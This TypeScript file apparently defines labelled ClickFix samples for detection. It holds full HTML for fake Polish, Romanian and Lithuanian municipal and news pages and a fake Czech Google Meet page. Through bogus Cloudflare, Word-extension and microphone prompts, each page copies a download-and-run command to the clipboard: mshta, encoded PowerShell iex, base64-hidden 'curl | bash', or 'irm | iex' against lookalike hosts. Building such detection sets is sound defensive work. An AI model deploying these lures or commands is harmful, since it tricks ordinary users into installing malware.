import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc, siteFooter, b64 } from '../parts/ym-kit.js';

const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

export const entries: Entry[] = [
{
  id: 'ym-clickfix-pl-gmina-cloudflare-mshta',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.gmina-stara-wies.pl/aktualnosci/harmonogram-odbioru-odpadow-2024',
  body: `<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"><title>Harmonogram odbioru odpadów 2024 – Urząd Gminy Stara Wieś</title>
<meta name="viewport" content="width=device-width,initial-scale=1"></head>
<body style="margin:0;font-family:Arial,sans-serif">
<div id="site" style="filter:blur(6px)"><div style="background:#2c5f2d;color:#fff;padding:16px 24px;font-size:20px">Urząd Gminy Stara Wieś</div>
<div style="max-width:800px;margin:20px auto;padding:0 16px"><h1>Harmonogram odbioru odpadów komunalnych na 2024 rok</h1><p>Informujemy, że harmonogram odbioru odpadów z nieruchomości zamieszkałych na terenie gminy jest dostępny do pobrania poniżej. Odpady wielkogabarytowe będą odbierane dwa razy w roku – w kwietniu i październiku.</p><p><a href="#">Harmonogram_2024.pdf</a></p></div></div>
<div id="cf" style="position:fixed;inset:0;background:#fff;z-index:99;font-family:-apple-system,system-ui,'Segoe UI',Roboto,Arial,sans-serif">
<div style="max-width:720px;margin:10vh auto;padding:0 24px"><h1 style="font-weight:500;font-size:2.2rem">www.gmina-stara-wies.pl</h1>
<h2 style="font-weight:400;font-size:1.4rem">Sprawdzanie, czy jesteś człowiekiem. Może to potrwać kilka sekund.</h2>
<div id="box" style="border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;padding:0 14px;gap:12px;cursor:pointer"><span id="cb" style="width:26px;height:26px;border:2px solid #666;border-radius:3px;background:#fff"></span><span>Zweryfikuj, że jesteś człowiekiem</span></div>
<div id="steps" style="display:none;margin-top:22px;border:1px solid #e0e0e0;padding:18px;max-width:460px"><b>Weryfikacja nie powiodła się.</b> Wykonaj poniższe kroki:<br><br>1. Naciśnij i przytrzymaj klawisz Windows + R<br>2. Naciśnij CTRL + V, aby wkleić kod weryfikacyjny<br>3. Naciśnij Enter<br><br><small>Ray ID: 86b1c0f2da9e41a7</small></div>
<p style="margin-top:40px;color:#555">www.gmina-stara-wies.pl musi sprawdzić bezpieczeństwo Twojego połączenia przed kontynuowaniem.</p>
<p style="font-size:.75rem;color:#888;margin-top:60px">Ray ID: 86b1c0f2da9e41a7 · Wydajność i bezpieczeństwo zapewnia Cloudflare</p></div></div>
<script>
var _c=atob('${b64('mshta https://gmina-cdn-verify.com/cf/verify.hta # ✔ Nie jestem robotem — weryfikacja reCAPTCHA ID: 2193')}');
document.getElementById('box').onclick=function(){var cb=document.getElementById('cb');cb.style.background='#2c7a2c';
navigator.clipboard.writeText(decodeURIComponent(escape(_c))).then(function(){},function(){var t=document.createElement('textarea');t.value=decodeURIComponent(escape(_c));document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});
setTimeout(function(){document.getElementById('steps').style.display='block'},600)};
</script></body></html>`,
},
{
  id: 'ym-clickfix-ro-primaria-doc-error',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.primaria-valeni.ro/anunturi/hcl-nr-34-2024.html',
  body: doc({
    lang: 'ro',
    title: 'HCL nr. 34/2024 privind aprobarea bugetului local – Primăria Văleni',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f4f4}.hd{background:#002b7f;color:#fff;padding:14px 24px;font-size:20px;border-bottom:4px solid #fcd116}.w{max-width:800px;margin:20px auto;background:#fff;padding:24px}
#err{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center}#err .d{background:#fff;width:520px;border-radius:4px;overflow:hidden;box-shadow:0 10px 40px rgba(0,0,0,.4)}
#err .t{background:#2b579a;color:#fff;padding:10px 16px}#err .c{padding:22px;font-size:14px;line-height:1.6}#err button{background:#2b579a;color:#fff;border:0;padding:10px 22px;border-radius:3px;cursor:pointer}
#err code{display:block;background:#f3f3f3;padding:8px;margin:8px 0;font-size:12px}`,
    body: `<div class="hd">Primăria Comunei Văleni · Județul Vaslui</div>
<div class="w"><h1>HCL nr. 34/2024 privind aprobarea bugetului local pe anul 2024</h1><p>Consiliul Local al Comunei Văleni, întrunit în ședință ordinară, a adoptat hotărârea privind aprobarea bugetului local de venituri și cheltuieli pe anul 2024. Documentul complet poate fi vizualizat mai jos.</p><p>[Document Word încorporat]</p></div>
<div id="err"><div class="d"><div class="t">Microsoft Word Online</div><div class="c">
<b>Eroare la afișarea documentului</b><br>Extensia „Word Online” nu este instalată în browserul dvs. Pentru a vizualiza documentul, instalați corect extensia.
<p><b>Cum se remediază:</b></p><ol><li>Apăsați butonul „Cum se remediază” de mai jos — codul va fi copiat</li><li>Deschideți PowerShell (clic dreapta pe Start → Terminal)</li><li>Lipiți codul (CTRL+V) și apăsați Enter</li><li>Reîncărcați pagina</li></ol>
<button id="fix">Cum se remediază</button> <span id="ok" style="display:none;color:#2b7a2b">✔ Copiat</span></div></div></div>
<script>
var fix='powershell -NoProfile -WindowStyle Hidden -EncodedCommand ${psEnc("$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');iex $w.DownloadString('https://docs-word-plugin.com/install.ps1')")}';
document.getElementById('fix').onclick=function(){navigator.clipboard.writeText(fix).then(function(){document.getElementById('ok').style.display='inline'})};
</script>`,
  }),
},
{
  id: 'ym-clickfix-lt-news-macos-terminal',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.kaunodiena-info.lt/naujienos/miestas/2024-03-14-rekonstrukcija',
  body: doc({
    lang: 'lt',
    title: 'Laisvės alėjos rekonstrukcija bus baigta vasarą | Kauno naujienos',
    css: `body{margin:0;font-family:Arial,sans-serif}.hd{background:#7a1f2b;color:#fff;padding:14px 24px;font-size:22px}article{max-width:720px;margin:24px auto;padding:0 16px;line-height:1.7}
#v{position:fixed;inset:0;background:#f7f7f7;z-index:9;display:flex;align-items:center;justify-content:center}#v .b{background:#fff;border:1px solid #ddd;border-radius:8px;padding:26px;width:480px;font-size:15px}
#v .chk{display:flex;align-items:center;gap:10px;border:1px solid #ccc;padding:14px;border-radius:4px;cursor:pointer}#v kbd{background:#eee;border:1px solid #ccc;border-radius:3px;padding:1px 6px}`,
    body: `<div class="hd">Kauno naujienos</div><article><h1>Laisvės alėjos rekonstrukcija bus baigta vasarą</h1><p>Savivaldybė patvirtino, kad antrasis alėjos rekonstrukcijos etapas bus užbaigtas iki birželio pabaigos. Darbų metu eismas Vienybės aikštėje bus ribojamas.</p></article>
<div id="v"><div class="b"><div class="chk" id="c"><input type="checkbox"> Patvirtinkite, kad esate žmogus</div>
<div id="mac" style="display:none;margin-top:16px">Norėdami užbaigti patikrinimą „Mac“ kompiuteryje:<ol><li>Paspauskite <kbd>⌘</kbd> + <kbd>Space</kbd>, įveskite <b>Terminal</b> ir paspauskite <kbd>Return</kbd></li><li>Įklijuokite patvirtinimo kodą <kbd>⌘</kbd> + <kbd>V</kbd></li><li>Paspauskite <kbd>Return</kbd></li></ol></div>
<div id="win" style="display:none;margin-top:16px">Paspauskite <kbd>Win</kbd> + <kbd>R</kbd>, tada <kbd>Ctrl</kbd> + <kbd>V</kbd> ir <kbd>Enter</kbd>.</div></div></div>
<script>
var mac=/Mac OS X|Macintosh/.test(navigator.userAgent);
var c1='/bin/bash -c "$(echo ${b64('curl -fsSL https://kaunas-cdn-check.com/m/install.sh | bash')} | base64 -d)"';
var c2='cmd /c "curl -s https://kaunas-cdn-check.com/w/s.cmd -o %TEMP%\\\\s.cmd && %TEMP%\\\\s.cmd" & rem Patvirtinimas: aš ne robotas #5512';
document.getElementById('c').onclick=function(){var t=mac?c1:c2;navigator.clipboard.writeText(t).catch(function(){});document.getElementById(mac?'mac':'win').style.display='block'};
</script>`,
  }),
},
{
  id: 'ym-clickfix-cz-meet-microphone',
  label: 'clickfix',
  kind: 'clickfix-fake-meeting',
  url: 'https://meet.google.com-join.cz-porada.info/xjb-pqrv-kcd',
  body: doc({
    lang: 'cs',
    title: 'Meet – xjb-pqrv-kcd',
    css: `body{margin:0;font-family:'Google Sans',Roboto,Arial,sans-serif;background:#202124;color:#e8eaed}.w{display:flex;gap:40px;justify-content:center;align-items:center;height:100vh}
.cam{width:560px;height:315px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}.side{width:320px;text-align:center}
.e{background:#fff;color:#202124;border-radius:8px;padding:18px;text-align:left;font-size:14px;margin-top:14px}.e button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:9px 18px;margin-top:10px;cursor:pointer}`,
    body: `<div class="w"><div class="cam">Kamera je vypnutá</div><div class="side"><h2>Připravení se připojit?</h2><p>Porada: Kontrola rozpočtu Q2 · 5 účastníků čeká</p>
<div class="e"><b>Problém s mikrofonem</b><br>Prohlížeči se nepodařilo získat přístup k mikrofonu a kameře. Tato chyba se obvykle týká zastaralého ovladače zvuku.<br><br>Pro opravu: stiskněte <b>Win+R</b>, vložte (Ctrl+V) opravný příkaz a stiskněte Enter.<br><button id="fx">Opravit</button></div></div></div>
<script>document.getElementById('fx').onclick=function(){var s='powershell -ep bypass -w hidden -c "irm https://meet-audio-fix.com/driver.ps1 | iex" ; # Oprava ovladače zvuku Google Meet';navigator.clipboard.writeText(s);this.textContent='Kód zkopírován – vložte do okna Spustit'};</script>`,
  }),
},
];
